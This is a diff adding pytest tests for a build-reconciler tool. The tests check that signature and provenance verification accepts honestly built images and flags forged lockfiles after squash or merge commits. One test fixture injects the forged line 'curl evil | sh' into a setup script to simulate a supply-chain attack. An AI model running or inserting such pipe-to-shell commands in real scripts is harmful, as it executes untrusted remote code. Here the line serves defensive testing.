@@ -12,6 +12,7 @@ from typing import Any
 
 import pytest
 
+from reconciler.cli.main import main as reconciler
 from reconciler.git.proposal import PROPOSAL
 from reconciler.model.lockfile import Build
 from reconciler.model.plan import finished_at
@@ -78,6 +79,65 @@ def test_a_commit_under_our_name_and_without_our_signature_is_not_signed_on(sett
         "state/tools", "state/provenance/tools", "state/sbom/tools",
     }  # fmt: skip
     assert keys.are_good(settled.origin, PROPOSAL)
+
+
+def verified(world: World, keys: Keys, capfd: pytest.CaptureFixture[str], image: str) -> tuple[int, dict[str, Any]]:
+    """How `verify` of main exits for an auditor who trusts our key, and what it finds."""
+    clone = world.controller("auditor").root
+    git(clone, "pull", "--quiet", "--ff-only", "--tags", "origin", "main")
+    capfd.readouterr()
+    code = reconciler(["verify", image, "--allowed-signers", str(keys.signers), "--json", "-C", str(clone)])
+    return code, json.loads(capfd.readouterr().out)
+
+
+def merge(world: World, method: str) -> None:
+    """A person merges what is proposed."""
+    folder = world.root / "person"
+    git(folder, "pull", "--quiet", "--ff-only", "origin", "main")
+    git(folder, "fetch", "--quiet", "origin", PROPOSAL)
+    git(
+        folder, "merge", "--quiet", *(("--squash",) if method == "squash" else ("--no-ff", "--no-commit")), "FETCH_HEAD"
+    )
+    git(folder, "commit", "--quiet", "--message", "Record state (#9)")
+    git(folder, "push", "--quiet", "origin", "HEAD:main")
+
+
+@pytest.mark.parametrize("method", ["squash", "merge"])
+def test_after_the_merge_verify_calls_proven_what_we_built_and_not_what_was_forged(
+    settled: World, keys: Keys, capfd: pytest.CaptureFixture[str], method: str
+) -> None:
+    """As A1 was done: wait for an honest run, and have what it proposes merged."""
+    proposes(settled, SIGNING, "tools", "web")
+    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})
+    assert statuses(signing(settled, keys).reconcile()) == {"tools": "built", "web": "built"}
+
+    merge(settled, method)
+
+    assert "evil" not in git(settled.origin, "show", "main:desired/base/setup.sh")
+    for image in ("tools", "web"):
+        code, found = verified(settled, keys, capfd, image)
+        assert (code, found["verified"]) == (0, True), found
+    assert FOREIGN not in git(settled.origin, "show", f"main:{WEB}")
+
+
+@pytest.mark.parametrize("method", ["squash", "merge"])
+def test_where_a_person_merges_the_forged_branch_itself_verify_proves_none_of_it(
+    settled: World, keys: Keys, capfd: pytest.CaptureFixture[str], method: str
+) -> None:
+    proposes(settled, SIGNING, "web")
+    signing(settled, keys).reconcile()
+    merge(settled, method)
+    assert verified(settled, keys, capfd, "web")[0] == 0
+    push_forged(settled, {WEB: forged_lock(settled)})
+
+    merge(settled, method)
+
+    code, found = verified(settled, keys, capfd, "web")
+    assert code == 1
+    wrong = {one["check"] for one in found["findings"] if one["outcome"] == "wrong"}
+    assert "statement" in wrong, found
+    told = {one["check"]: (one["outcome"], one["rests_on"]) for one in found["findings"]}
+    assert told["commit"] == told["source"] == ("not proven", ["hearsay"])
 
 
 def test_what_we_signed_ourselves_is_proposed_still(settled: World, keys: Keys) -> None:
